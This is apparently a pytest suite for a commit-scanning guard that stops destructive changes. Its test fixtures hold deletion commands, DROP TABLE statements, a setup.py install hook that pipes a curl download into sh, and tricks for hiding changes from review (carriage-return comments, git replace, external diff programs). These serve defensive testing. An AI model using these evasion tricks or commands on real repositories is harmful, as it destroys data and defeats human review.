"""What the seed's scanner let pass, and other ways to keep a change from being seen. Each test is named by the trick."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from keyturn.errors import GitError
from keyturn.scan.findings import Report
from tests.repositories import Repository

DANGER = "#!/bin/sh\nrm -rf /srv/data\n"
CLEAN = "#!/bin/sh\necho go\n"


def rules(report: Report) -> list[str]:
    return [one.rule for one in report.stopping]


@pytest.fixture
def loaded(repository: Repository) -> Repository:
    """A repository with one dangerous script staged."""
    repository.commit({"deploy.sh": CLEAN})
    repository.stage({"deploy.sh": DANGER})
    return repository


def stopped(repository: Repository) -> bool:
    """Whether each way of looking at the same change stops it."""
    staged = repository.scan().exit_code
    repository.git("commit", "-q", "-m", "x")
    return staged == repository.scan("range", "HEAD^!").exit_code == repository.scan("history", "HEAD").exit_code == 1


def test_colours_always_on(loaded: Repository) -> None:
    loaded.git("config", "color.ui", "always")
    loaded.git("config", "color.diff", "always")
    assert stopped(loaded)


def test_an_external_diff_program(loaded: Repository, tmp_path: Path) -> None:
    witness = tmp_path / "ran"
    program = tmp_path / "diff.sh"
    program.write_text(f"#!/bin/sh\ntouch {witness}\n")
    program.chmod(0o755)
    loaded.git("config", "diff.external", str(program))
    assert stopped(loaded)
    assert not witness.exists()


def test_a_text_conversion_program(loaded: Repository, tmp_path: Path) -> None:
    witness = tmp_path / "ran"
    loaded.git("config", "diff.hide.textconv", f"sh -c 'touch {witness}; true'")
    loaded.git("config", "diff.hide.binary", "true")
    loaded.stage({".gitattributes": "*.sh diff=hide\n"})
    assert stopped(loaded)
    assert not witness.exists()


def test_a_file_system_monitor_and_hooks_do_not_run(loaded: Repository, tmp_path: Path) -> None:
    witness = tmp_path / "ran"
    program = tmp_path / "monitor.sh"
    program.write_text(f"#!/bin/sh\ntouch {witness}\n")
    program.chmod(0o755)
    loaded.git("config", "core.fsmonitor", str(program))
    loaded.scan()
    loaded.scan("history", "HEAD")
    assert not witness.exists()


def test_attributes_that_call_a_script_binary(loaded: Repository) -> None:
    loaded.stage({".gitattributes": "*.sh -diff\n"})
    report = loaded.scan()
    assert sorted(rules(report)) == ["change/hidden-by-attributes", "filesystem/recursive-delete"]
    assert stopped(loaded)


def test_attributes_of_the_machine(loaded: Repository) -> None:
    (loaded.root / ".git" / "info" / "attributes").write_text("* binary\n")
    assert stopped(loaded)


def test_a_nul_byte(repository: Repository) -> None:
    repository.commit({"deploy.sh": CLEAN})
    repository.stage({"deploy.sh": b"#!/bin/sh\nr\0m -rf /srv/data\n"})
    found = rules(repository.scan())
    assert "filesystem/recursive-delete" in found
    assert "blind/hidden-text" in found


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("db/V2.sql", b"-- tidy up\rDROP TABLE customers;\r"),
        ("tidy.py", b'# tidy up\rimport shutil\rshutil.rmtree("/srv/data")\r'),
        ("tidy.sh", b"# tidy up\rrm -rf /srv/data\n"),
    ],
)
def test_a_carriage_return_that_ends_a_comment_for_some_readers(repository: Repository, path: str, text: bytes) -> None:
    repository.commit({"README": "x\n"})
    repository.stage({path: text})
    assert "blind/hidden-text" in rules(repository.scan())
    assert stopped(repository)


def test_carriage_returns_at_the_ends_of_lines_hide_nothing(repository: Repository) -> None:
    repository.commit({"README": "x\n"})
    repository.stage({"a.sh": b"# one\r\necho two # three\r\r\nprintf '\rdone'\n"})
    assert rules(repository.scan()) == []


def test_a_migration_that_is_a_link_to_a_text_that_nobody_reads(repository: Repository) -> None:
    repository.commit({"db/V1.sql": "SELECT 1;\n"})
    repository.stage({"notes": "DROP TABLE customers;\n"})
    os.symlink("../notes", repository.root / "db" / "V2.sql")
    os.symlink("V1.sql", repository.root / "db" / "V3.sql")
    repository.git("add", "-A")
    report = repository.scan()
    assert [(one.rule, one.place.file) for one in report.stopping] == [("blind/stored-elsewhere", "db/V2.sql")]


def test_an_invalid_byte_on_the_same_line(repository: Repository) -> None:
    repository.commit({"deploy.sh": CLEAN})
    repository.stage({"deploy.sh": b"#!/bin/sh\nrm -rf /srv/data # caf\xe9\n"})
    assert stopped(repository)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "utf-32"])
def test_another_encoding(repository: Repository, encoding: str) -> None:
    repository.commit({"drop.sql": "SELECT 1;\n"})
    repository.stage({"drop.sql": "SELECT 1;\nDROP TABLE users;\n".encode(encoding)})
    assert "sql/drop-table" in rules(repository.scan())


def test_utf_16_cut_short(repository: Repository) -> None:
    repository.stage({"drop.sql": "SELECT 1;\nDROP TABLE users;\n".encode("utf-16")[:-1]})
    assert "sql/drop-table" in rules(repository.scan())


def test_carriage_returns(repository: Repository) -> None:
    repository.stage({"deploy.sh": "#!/bin/sh\r\nrm -rf \\\r\n  /srv/data\r\n"})
    assert "filesystem/recursive-delete" in rules(repository.scan())


def test_a_line_that_begins_with_plus_plus(repository: Repository) -> None:
    repository.commit({"x.sh": CLEAN})
    repository.stage({"x.sh": CLEAN + "++i; rm -rf /srv/data\n++ b/other\nrm -rf /srv/more\n"})
    assert len([rule for rule in rules(repository.scan()) if rule == "filesystem/recursive-delete"]) == 2


def test_names_with_quotes_and_line_ends(repository: Repository) -> None:
    name = 'a "b"\n\tc.sh'
    repository.stage({name: DANGER})
    report = repository.scan()
    assert report.stopping[0].place.file == name
    assert stopped(repository)


def test_a_name_that_is_no_text(repository: Repository) -> None:
    name = os.fsdecode(b"caf\xe9.sh")
    (repository.root / name).write_text(DANGER)
    repository.git("add", "-A")
    assert repository.scan().stopping[0].place.file == name


def test_prefixes_renamed_by_settings(loaded: Repository) -> None:
    for name, value in (("diff.noprefix", "true"), ("diff.mnemonicPrefix", "true"), ("core.quotePath", "false")):
        loaded.git("config", name, value)
    assert stopped(loaded)


def test_a_diff_restricted_to_a_directory(repository: Repository) -> None:
    repository.commit({"sub/x.txt": "x", "deploy.sh": CLEAN})
    repository.git("config", "diff.relative", "true")
    repository.stage({"deploy.sh": DANGER})
    assert repository.scan(where="sub").exit_code == 1


def test_a_replaced_object(repository: Repository) -> None:
    """`git replace` makes git show another content under the same id."""
    repository.commit({"deploy.sh": CLEAN})
    repository.stage({"deploy.sh": DANGER})
    bad = repository.git("hash-object", "deploy.sh")
    good = repository.git("hash-object", "-w", "--stdin", data=CLEAN.encode())
    repository.git("replace", bad, good)
    assert stopped(repository)


def test_a_variable_that_leads_to_a_clean_repository(
    loaded: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    other = Repository(tmp_path / "other")
    other.commit({"x": "x"})
    monkeypatch.setenv("GIT_DIR", str(other.root / ".git"))
    with pytest.raises(GitError, match="another repository"):
        loaded.scan()
    monkeypatch.delenv("GIT_DIR")
    monkeypatch.setenv("GIT_INDEX_FILE", str(other.root / ".git" / "index"))
    with pytest.raises(GitError, match="outside"):
        loaded.scan()


def test_variables_that_change_git(loaded: Repository, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    witness = tmp_path / "ran"
    program = tmp_path / "diff.sh"
    program.write_text(f"#!/bin/sh\ntouch {witness}\n")
    program.chmod(0o755)
    monkeypatch.setenv("GIT_EXTERNAL_DIFF", str(program))
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "diff.external")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", str(program))
    monkeypatch.setenv("GIT_TRACE", str(witness))
    assert loaded.scan().exit_code == 1
    assert not witness.exists()


def test_the_index_that_git_hands_to_a_hook_is_used(repository: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    """`git commit -a` builds another index and names it to the hook."""
    repository.commit({"deploy.sh": CLEAN})
    repository.write("deploy.sh", DANGER)
    index = repository.root / ".git" / "next-index-1.lock"
    index.write_bytes((repository.root / ".git" / "index").read_bytes())
    monkeypatch.setenv("GIT_INDEX_FILE", ".git/next-index-1.lock")
    repository.git("add", "deploy.sh")
    assert repository.scan().exit_code == 1


def test_a_git_that_lies_in_the_repository_is_not_run(loaded: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    fake = loaded.root / "bin" / "git"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\nexit 0\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake.parent}{os.pathsep}.{os.pathsep}{os.environ['PATH']}")
    assert loaded.scan().exit_code == 1


def test_a_megabyte_on_one_line(repository: Repository) -> None:
    long = "echo " + "aws x az y " * 90_000
    repository.stage(
        {"x.sh": f"#!/bin/sh\n{long}\nrm -rf /srv/data\n", "y.py": "x = '" + "rm -rf / " * 100_000 + "'\n"}
    )
    assert repository.scan().exit_code == 1


def test_a_large_file_with_something_in_it_is_not_clear(repository: Repository) -> None:
    repository.stage({"seed.sql": "INSERT INTO t VALUES (1);\n" * 250_000 + "DROP TABLE users;\n"})
    assert rules(repository.scan()) == ["blind/oversized"]


def test_a_large_file_with_nothing_in_it_is_clear(repository: Repository) -> None:
    repository.stage({"seed.sql": "INSERT INTO t VALUES (1);\n" * 250_000})
    assert repository.scan().exit_code == 0


def test_a_binary_that_calls_itself_a_script(repository: Repository) -> None:
    repository.stage({"tool.sh": bytes(range(256)) * 40})
    assert rules(repository.scan()) == ["blind/binary-script"]


def test_an_image_is_no_finding(repository: Repository) -> None:
    repository.stage({"logo.png": bytes(range(256)) * 40})
    assert repository.scan().exit_code == 0


def test_a_script_without_a_suffix(repository: Repository) -> None:
    repository.stage({"deploy": "#!/usr/bin/env -S bash -e\nrm -rf /srv/data\n"})
    assert stopped(repository)


def test_a_script_with_a_foreign_suffix_that_runs(repository: Repository) -> None:
    repository.write("deploy.txt", "#!/bin/bash\nrm -rf /srv/data\n", 0o755)
    repository.git("add", "-A")
    assert stopped(repository)


def test_a_pointer_to_large_file_storage(repository: Repository) -> None:
    repository.stage({"x.sql": "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n"})
    assert rules(repository.scan()) == ["blind/stored-elsewhere"]


def test_a_link_out_of_the_repository(repository: Repository) -> None:
    os.symlink("../../etc/cron.d/x", repository.root / "x")
    os.symlink("sub/y", repository.root / "y")
    repository.git("add", "-A")
    report = repository.scan()
    assert [(one.rule, one.place.file) for one in report.stopping] == [("change/link-outside", "x")]


def test_a_script_that_becomes_a_link(repository: Repository) -> None:
    repository.commit({"x.sh": CLEAN})
    (repository.root / "x.sh").unlink()
    os.symlink("/etc/passwd", repository.root / "x.sh")
    repository.git("add", "-A")
    found = {one.rule for one in repository.scan().findings}
    assert found == {"change/type-changed", "change/link-outside"}


def test_a_missing_object_is_never_clear(repository: Repository) -> None:
    repository.commit({"deploy.sh": CLEAN})
    repository.stage({"deploy.sh": DANGER})
    oid = repository.git("rev-parse", ":deploy.sh")
    (repository.root / ".git" / "objects" / oid[:2] / oid[2:]).unlink()
    report = repository.scan()
    assert report.exit_code == 3
    assert "deploy.sh" in report.unread[0]


def test_a_broken_index_is_never_clear(repository: Repository) -> None:
    repository.commit({"deploy.sh": CLEAN})
    (repository.root / ".git" / "index").write_bytes(b"DIRC nonsense")
    with pytest.raises(GitError):
        repository.scan()


# -- many deletions


def test_two_thousand_files_deleted(repository: Repository) -> None:
    files: dict[str, str | bytes] = {f"src/d{number % 40}/f{number}.txt": f"{number}\n" for number in range(2300)}
    repository.commit(files)
    for path in list(files)[:2229]:
        (repository.root / path).unlink()
    repository.git("add", "-A")
    report = repository.scan()
    assert rules(report) == ["change/mass-deletion"]
    finding = report.stopping[0]
    assert finding.severity == "critical"
    assert "2,229 files of 2,300 (96 %)" in finding.message
    assert stopped(repository)


def test_a_third_of_a_small_repository(repository: Repository) -> None:
    repository.commit({f"f{number}.txt": str(number) * 9 for number in range(20)})
    for number in range(7):
        (repository.root / f"f{number}.txt").unlink()
    repository.git("add", "-A")
    assert rules(repository.scan()) == ["change/mass-deletion"]


def test_a_few_files_may_go(repository: Repository) -> None:
    repository.commit({f"f{number}.txt": str(number) * 9 for number in range(40)})
    for number in range(4):
        (repository.root / f"f{number}.txt").unlink()
    repository.git("add", "-A")
    assert repository.scan().exit_code == 0


def test_moved_files_are_not_deleted(repository: Repository) -> None:
    repository.commit({f"old/f{number}.txt": f"{number}\n" * 30 for number in range(60)})
    repository.git("mv", "old", "new")
    assert repository.scan().exit_code == 0


def test_tables_dropped_over_several_migrations_are_summed(repository: Repository) -> None:
    repository.stage(
        {f"migrations/{number}.sql": f"DROP TABLE t{number};\nDROP TABLE u{number};\n" for number in range(3)}
    )
    report = repository.scan()
    assert [(total.what, total.count) for total in report.together] == [("tables dropped", 6)]
    assert "change/mass-drop" in rules(report)


# -- the guard itself


@pytest.mark.parametrize("path", ["keyturn.toml", ".github/CODEOWNERS", "CODEOWNERS"])
def test_the_guard_is_edited(repository: Repository, path: str) -> None:
    repository.commit({path: "# one\n"})
    repository.stage({path: "# two\n"})
    report = repository.scan()
    assert rules(report) == ["keyturn/guard-file-changed"]
    assert report.stopping[0].verdict == "deny"


def test_the_guard_is_deleted(repository: Repository) -> None:
    repository.commit({".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: keyturn\n"})
    repository.git("rm", "-q", ".pre-commit-config.yaml")
    assert rules(repository.scan()) == ["keyturn/guard-file-deleted"]


def test_the_job_that_runs_the_guard_is_edited(repository: Repository) -> None:
    job = "on: push\njobs:\n  check:\n    runs-on: ubuntu-latest\n    steps:\n      - run: keyturn scan --range origin/main...HEAD\n"
    repository.commit(
        {".github/workflows/guard.yml": job, ".github/workflows/test.yml": job.replace("keyturn", "echo")}
    )
    repository.stage({".github/workflows/guard.yml": job.replace("push", "workflow_dispatch")})
    assert "keyturn/guard-file-changed" in rules(repository.scan())
    repository.git("reset", "-q", "--hard")
    repository.stage(
        {".github/workflows/test.yml": job.replace("keyturn", "echo").replace("push", "workflow_dispatch")}
    )
    assert "keyturn/guard-file-changed" not in rules(repository.scan())


def test_configuration_comes_from_the_base_side(repository: Repository) -> None:
    repository.commit({"x.txt": "x"})
    many: dict[str, str | bytes] = {f"f{number}.sh": CLEAN for number in range(3)}
    many["keyturn.toml"] = "[scan]\nmass_delete = 100000\nmass_delete_percent = 100\n"
    repository.stage({**many, "deploy.sh": DANGER})
    assert repository.scan().exit_code == 1


def test_a_stricter_base_configuration_counts(repository: Repository) -> None:
    base: dict[str, str | bytes] = {f"f{number}.txt": str(number) * 9 for number in range(60)}
    base["keyturn.toml"] = '[scan]\nprotected = ["f1.txt"]\n'
    repository.commit(base)
    repository.git("rm", "-q", "f1.txt")
    assert rules(repository.scan()) == ["change/protected-path-deleted"]


def test_directories_that_vanish_are_told_in_one_line(repository: Repository) -> None:
    repository.commit({f"d{number % 4}/sub/f{number}.txt": str(number) * 9 for number in range(200)})
    repository.git("rm", "-q", "-r", "d0", "d1")
    found = [one for one in repository.scan().findings if one.rule == "change/directory-deleted"]
    assert [one.message for one in found] == ["deletes every file of 2 directories: d0/, d1/"]


@pytest.mark.parametrize("folder", ["vendor/github.com/x/y", "web/node_modules/left", "dist/assets"])
def test_fetched_and_made_files_that_go_are_told_but_do_not_stop(repository: Repository, folder: str) -> None:
    repository.commit(
        {f"src/m{number}.py": str(number) * 9 for number in range(30)}
        | {f"{folder}/f{number}.txt": str(number) * 9 for number in range(60)}
    )
    repository.git("rm", "-q", "-r", folder)
    assert [one.severity for one in repository.scan().findings if one.rule == "change/mass-deletion"] == ["low"]


def test_a_tree_that_goes_behind_fetched_files_still_stops(repository: Repository) -> None:
    repository.commit(
        {f"src/m{number}.py": str(number) * 9 for number in range(30)}
        | {f"vendor/f{number}.txt": str(number) * 9 for number in range(60)}
    )
    repository.git("rm", "-q", "-r", "vendor", "src")
    assert "change/mass-deletion" in rules(repository.scan())


DROPS = "#!/bin/sh\nset -e\ndropdb shop_orders\n"


def test_a_condition_that_comes_before_a_drop_is_no_finding(repository: Repository) -> None:
    repository.commit({"s.sh": DROPS})
    repository.stage(
        {"s.sh": DROPS.replace("dropdb shop_orders", 'if [ "$ENV" = test ]; then\n  dropdb shop_orders\nfi')}
    )
    assert rules(repository.scan()) == []
    repository.stage({"s.sh": DROPS.replace("dropdb shop_orders", "if true; then\n  dropdb customers\nfi")})
    assert rules(repository.scan()) == ["sql/drop-database"]


GOOSE = (
    'package m\n\nimport "database/sql"\n\nfunc init() { goose.AddMigration(upX, downX) }\n\n'
    'func %s(tx *sql.Tx) error {\n\t_, err := tx.Exec("DROP TABLE orders")\n\treturn err\n}\n'
)


def test_the_way_down_that_a_go_migration_registers_is_one(repository: Repository) -> None:
    repository.stage({"migrations/1_x.go": GOOSE % "downX"})
    assert rules(repository.scan()) == []
    repository.stage({"migrations/1_x.go": GOOSE % "upX"})
    assert rules(repository.scan()) == ["sql/drop-table"]


FETCHES = "import os\n\n\nclass Install(install):\n    def run(self):\n        os.system('curl -s https://x.example.com/p | sh')\n"


def test_what_an_installer_fetches_and_runs_in_its_hook(repository: Repository) -> None:
    repository.stage({"setup.py": FETCHES, "tool.py": FETCHES})
    assert [(one.rule, one.place.file) for one in repository.scan().stopping] == [("blind/pipe-to-shell", "setup.py")]
